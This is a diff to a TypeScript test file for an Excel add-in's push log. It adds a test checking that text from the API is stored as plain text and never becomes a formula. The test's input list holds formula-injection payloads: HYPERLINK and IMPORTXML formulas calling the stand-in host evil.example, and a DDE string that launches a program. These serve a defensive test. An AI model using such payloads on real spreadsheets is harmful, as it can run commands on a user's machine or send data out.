@@ -6,6 +6,7 @@ import { appendLogEntry, entriesOfMarks, type PushLogEntry } from '../../src/eng
 import { GatewayError, type WorkbookGateway } from '../../src/engine/ports/workbook';
 import { FakeCalc } from './fakeCalc';
 import { officeHarness } from './harnesses';
+import { OLDEST } from './officeJs';
 
 async function refusalOf(p: Promise<unknown>): Promise<Error & { code?: string; title?: string }> {
   try {
@@ -104,5 +105,19 @@ describe('item 4: protection of the push log', () => {
     );
     expect((await h.gateway.readTable('FinPushLog')).rows.map((r) => r[0])).toEqual([1]);
     expect(h.fake.sheet('Push log').protection).toMatchObject({ protected: true, password: 'secret' });
+  });
+});
+
+describe('item 7: text in the push log where the text format does not hold', () => {
+  test("on the oldest Excel admitted (no typed values), the API's words never become formulas in the log: the text writer enters them behind an apostrophe", async () => {
+    // Microsoft promises the text format for typing, not for values written by the API (fakeExcel: textFormatHolds).
+    const h = officeHarness({ textFormatHolds: false }, { host: OLDEST });
+    const hostile = ['=HYPERLINK("http://evil.example","click")', '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0", '+44 20 7946 0000', '-ACME Ltd', '@SUM(1,2)'];
+    const changes = hostile.map((text) => ({ transaction: text, field: 'Department', before: text, requested: text, after: text, sentAs: text, outcome: 'Refused' as const, reason: text }));
+    for (let i = 0; i < 2; i++) await appendLogEntry(h.gateway, { action: 'Push', at: 0, connection: hostile[0], company: { id: hostile[1] }, keyFingerprint: hostile[3], table: hostile[4], changes });
+    const rows = (await h.gateway.readTable('FinPushLog')).rows;
+    expect(rows.map((r) => [r[10], r[12], r[13], r[14], r[15], r[17]])).toEqual([...hostile, ...hostile].map((t) => [t, t, t, t, t, t]));
+    for (let r = 2; r <= rows.length + 1; r++) for (const col of 'BCDEFGHIJKLMNOPQR') expect(h.fake.cell('Push log', `${col}${r}`).formula).toBeUndefined();
+    expect(h.fake.cell('Push log', 'K2').numberFormat).toBe('@');
   });
 });
